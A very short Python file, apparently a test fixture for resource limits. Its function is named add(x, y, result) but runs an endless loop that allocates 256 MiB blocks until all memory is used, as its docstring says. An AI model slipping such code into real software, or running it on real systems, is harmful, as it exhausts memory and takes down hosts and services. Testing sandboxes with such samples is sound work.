"""Takes all the memory that there is."""

kept = []


def add(x, y, result):
    while True:
        kept.append(bytearray(1 << 28))
